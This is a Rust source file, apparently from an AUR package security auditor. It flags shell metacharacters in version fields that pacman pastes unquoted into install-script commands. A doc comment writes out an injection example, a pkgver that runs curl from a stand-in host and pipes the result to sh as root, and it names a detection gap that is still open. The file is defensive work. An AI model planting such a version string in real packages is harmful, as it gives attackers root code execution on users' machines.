//! The package's version as shell code (attack 29 F10). libalpm runs an install script as
//! `sh -c ". .INSTALL; post_install VERSION"` (`trans.c` `_alpm_runscriptlet`: `". %s; %s %s"`)
//! with `epoch:pkgver-pkgrel` pasted **unquoted** into the shell's text. Neither side stops
//! shell code there: makepkg's `check_pkgver` forbids only whitespace, `:`, `/` and `-`, and
//! the format itself (alpm-pkgver(7), what alpm-types implements) is any ASCII but `:/-<>=` and
//! whitespace — so `pkgver='1;curl${IFS}evil.example|sh;true'` with a three-line harmless install
//! file is root running `curl | sh` on install, upgrade and removal. (`pkgrel` and `epoch` are
//! digits to makepkg's lint, checked the same here at no cost.)
//!
//! Class: *a value the package chooses reaches a shell's text*. The version is judged as the
//! text pacman pastes: every `pkgver`, `pkgrel` and `epoch` the PKGBUILD assigns (anywhere: a
//! `package()` may set it again before `.PKGINFO` is written), the `.SRCINFO`'s, and the literal
//! text a `pkgver()` function prints. Any character that makes the shell run something there (a
//! separator, a substitution, a subshell, a redirection) is `dangerous`; the versions real
//! packages carry (alphanumerics and `._+~`, with `:` and `-` as the separators) have none.
//!
//! What a `pkgver()` prints is judged in `printed_version.rs`: evaluated whatever prints it,
//! and as makepkg's re-sourcing of the rewritten PKGBUILD reads it (attack 31 F1, F13).
//!
//! What a `pkgver()` computes at build from the sources (`git describe` and friends) cannot be
//! read here: the audit does not flag it (it would make every VCS package with an install file
//! `review`); makepkg lints the result only for `:/-` and whitespace, so a tag made of shell code
//! would pass — left open (attack 29 F10).

use super::{Ctx, Sink};
use crate::audit::report::Severity;
use crate::audit::shell::{FileKind, Pos};

use super::version_text::{FIELDS, shell_special};

pub(super) fn check(ctx: &Ctx, sink: &mut Sink) {
    let has_install = ctx.an.files.iter().any(|f| f.kind == FileKind::Install)
        || ctx
            .an
            .all_values("install")
            .iter()
            .any(|s| !s.text.is_empty());
    let why = |field: &str, v: &str, c: char| {
        let root = if has_install {
            "this package has an install script, so root runs it as shell code on every install, upgrade and removal"
        } else {
            "this package has no install script now, but any later one (or a split package's) makes root run it as shell code"
        };
        format!(
            "{field} `{v}` contains `{}`, which makes a shell run something: pacman runs install scripts as `sh -c \". .INSTALL; post_install VERSION\"` with the version pasted in unquoted — {root}",
            c.escape_default()
        )
    };
    for a in &ctx.an.assigns {
        if a.file != 0 || !FIELDS.contains(&a.name.as_str()) {
            continue;
        }
        for v in a.value.items() {
            // An unresolved part is the model's placeholder, not the package's text: judged by
            // the parts that were read.
            if let Some(c) = shell_special(&v.text).filter(|_| !v.dynamic) {
                sink.at(
                    "AUR-VERSION-CODE",
                    Severity::Critical,
                    0,
                    a.pos,
                    &a.snippet,
                    why(&a.name, &v.text, c),
                );
            }
        }
    }
    // The value after the top level ran, however it was set (`printf -v pkgver`, `read`).
    for field in FIELDS {
        if let Some(v) = ctx.an.global_str(field)
            && !v.dynamic
            && let Some(c) = shell_special(&v.text)
        {
            let (pos, snippet) = ctx.assign_pos(field).unwrap_or_default();
            sink.at(
                "AUR-VERSION-CODE",
                Severity::Critical,
                0,
                pos,
                &snippet,
                why(field, &v.text, c),
            );
        }
    }
    // What a pkgver() prints, as makepkg pastes it into the PKGBUILD and sources it again
    // (attack 31 F1, F13), and a version made from the file's own text unseen.
    super::printed_version::check(ctx, sink);
    super::printed_version::assigned_unseen(ctx, sink, FIELDS);
    let Some(si) = &ctx.srcinfo else { return };
    for field in FIELDS {
        for (line, v) in si.values(field) {
            if let Some(c) = shell_special(v) {
                sink.add(
                    "AUR-VERSION-CODE",
                    Severity::Critical,
                    ".SRCINFO",
                    Pos {
                        line: (*line).max(1),
                        col: 1,
                    },
                    &format!("{field} = {v}"),
                    why(field, v, c),
                );
            }
        }
    }
}
